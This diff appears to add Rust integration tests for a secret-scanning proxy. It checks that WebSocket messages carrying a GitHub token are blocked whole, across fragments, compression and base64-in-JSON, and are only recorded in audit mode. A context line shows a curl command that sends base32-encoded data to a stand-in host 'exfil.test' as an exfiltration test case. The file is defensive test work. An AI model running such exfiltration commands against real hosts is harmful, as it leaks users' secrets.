@@ -561,3 +561,179 @@ curl -s -p -o /dev/null "http://{base32}.exfil.test:{port}/"; echo "tunnel $?""#
         );
     }
 }
+
+/// A python `websockets` echo server (permessage-deflate on offer, as the
+/// library does by default) on `127.0.0.1:0`, stopped when dropped; `None`
+/// where python's websockets is missing (required under CI).
+#[allow(clippy::print_stdout)]
+async fn websocket_origin() -> Option<(tokio::process::Child, u16)> {
+    use tokio::io::AsyncBufReadExt;
+    let script = r#"
+import asyncio
+from websockets.asyncio.server import serve
+async def echo(ws):
+    async for message in ws:
+        await ws.send(message)
+async def main():
+    async with serve(echo, "127.0.0.1", 0, max_size=None) as server:
+        print(server.sockets[0].getsockname()[1], flush=True)
+        await asyncio.Future()
+asyncio.run(main())
+"#;
+    let mut child = tokio::process::Command::new("python3")
+        .args(["-c", script])
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::null())
+        .kill_on_drop(true)
+        .spawn()
+        .ok()?;
+    let stdout = child.stdout.take()?;
+    let mut line = String::new();
+    let read = tokio::time::timeout(
+        std::time::Duration::from_secs(20),
+        tokio::io::BufReader::new(stdout).read_line(&mut line),
+    )
+    .await;
+    match line.trim().parse::<u16>() {
+        Ok(port) if matches!(read, Ok(Ok(_))) => Some((child, port)),
+        _ => {
+            assert!(
+                std::env::var_os("CI").is_none(),
+                "python3 with websockets is required under CI (.ci/run installs it)"
+            );
+            println!("note: python3 websockets missing; skipped");
+            None
+        }
+    }
+}
+
+/// A python `websockets` client through `run`: each line of `cases` is
+/// `label|compression|message` where a message with `^` in it is sent in
+/// fragments split there; prints `label echoed EXTENSIONS` or
+/// `label closed`.
+fn websocket_client(port: u16, cases: &[(&str, &str, String)]) -> String {
+    let cases = cases
+        .iter()
+        .map(|(label, compression, message)| format!("({label:?}, {compression}, {message:?})"))
+        .collect::<Vec<_>>()
+        .join(",\n    ");
+    format!(
+        r#"python3 - <<'PY'
+import asyncio
+from websockets.asyncio.client import connect
+CASES = [
+    {cases}
+]
+async def one(label, compression, message):
+    try:
+        async with connect("ws://127.0.0.1:{port}/", compression=compression, open_timeout=10, close_timeout=2) as ws:
+            parts = message.split("^")
+            await ws.send(parts if len(parts) > 1 else message)
+            echoed = await asyncio.wait_for(ws.recv(), 10)
+            assert echoed == message.replace("^", ""), echoed
+            print(label, "echoed", ws.response.headers.get("Sec-WebSocket-Extensions"))
+    except Exception as error:
+        print(label, "closed", type(error).__name__)
+async def main():
+    for case in CASES:
+        await one(*case)
+asyncio.run(main())
+PY
+"#
+    )
+}
+
+/// Client WebSocket messages are judged whole, before any of a message
+/// leaves: plain, fragmented (the secret split across fragments) and
+/// compressed (permessage-deflate, as python's websockets negotiates it),
+/// a known value base64'd inside JSON; ordinary messages echo untouched;
+/// audit lets the secret through and records it.
+#[tokio::test]
+async fn websocket_messages_are_scanned_whole_and_inflated() {
+    let Some((_server, port)) = websocket_origin().await else {
+        return;
+    };
+    let (head, tail) = GITHUB.split_at(20);
+    let known_b64 = {
+        use base64::Engine;
+        base64::engine::general_purpose::STANDARD.encode(KNOWN)
+    };
+    let cases = [
+        ("benign", "None", "hello, just text".to_owned()),
+        (
+            "benign-compressed",
+            "\"deflate\"",
+            "git status: nothing to commit, working tree clean ".repeat(20),
+        ),
+        ("benign-fragments", "None", "part one, ^part two".to_owned()),
+        ("plain", "None", format!("token {GITHUB}")),
+        ("fragments", "None", format!("token {head}^{tail}")),
+        ("compressed", "\"deflate\"", format!("token {GITHUB}")),
+        (
+            "compressed-fragments",
+            "\"deflate\"",
+            format!("{{\"k\": \"{head}^{tail}\"}}"),
+        ),
+        (
+            "known-json",
+            "\"deflate\"",
+            format!("{{\"data\": \"{known_b64}\"}}"),
+        ),
+        ("after", "\"deflate\"", "still served".to_owned()),
+    ];
+    let script = websocket_client(port, &cases);
+    let dir = tempfile::tempdir().unwrap();
+    let (code, stdout, stderr) = scanned("deny", dir.path(), &script).await;
+    assert_eq!(code, Some(0), "{stdout}\n{stderr}");
+    for (label, wanted) in [
+        ("benign", "benign echoed None"),
+        (
+            "benign-compressed",
+            "benign-compressed echoed permessage-deflate",
+        ),
+        ("benign-fragments", "benign-fragments echoed"),
+        ("plain", "plain closed"),
+        ("fragments", "fragments closed"),
+        ("compressed", "compressed closed"),
+        ("compressed-fragments", "compressed-fragments closed"),
+        ("known-json", "known-json closed"),
+        ("after", "after echoed"),
+    ] {
+        assert!(
+            stdout.lines().any(|line| line.starts_with(wanted)),
+            "{label}: wanted {wanted:?}\n{stdout}\n{stderr}"
+        );
+    }
+    let recorded = records(dir.path());
+    assert_eq!(
+        recorded
+            .matches(r#""rule":"github_token in a WebSocket message""#)
+            .count(),
+        4,
+        "{recorded}"
+    );
+    assert!(
+        recorded.contains("known:MY_SECRET in a WebSocket message"),
+        "{recorded}"
+    );
+    for text in [&stdout, &stderr, &recorded] {
+        assert!(!text.contains(GITHUB) && !text.contains(tail), "{text}");
+        assert!(
+            !text.contains(KNOWN) && !text.contains(&known_b64),
+            "{text}"
+        );
+    }
+
+    // Audit: the same secret goes through, on the record.
+    let dir = tempfile::tempdir().unwrap();
+    let script = websocket_client(port, &cases[5..6]);
+    let (code, stdout, stderr) = scanned("audit", dir.path(), &script).await;
+    assert_eq!(code, Some(0), "{stderr}");
+    assert!(stdout.contains("compressed echoed"), "{stdout}\n{stderr}");
+    let recorded = records(dir.path());
+    assert!(
+        recorded.contains(r#""decision":"audit""#)
+            && recorded.contains("github_token in a WebSocket message"),
+        "{recorded}"
+    );
+}
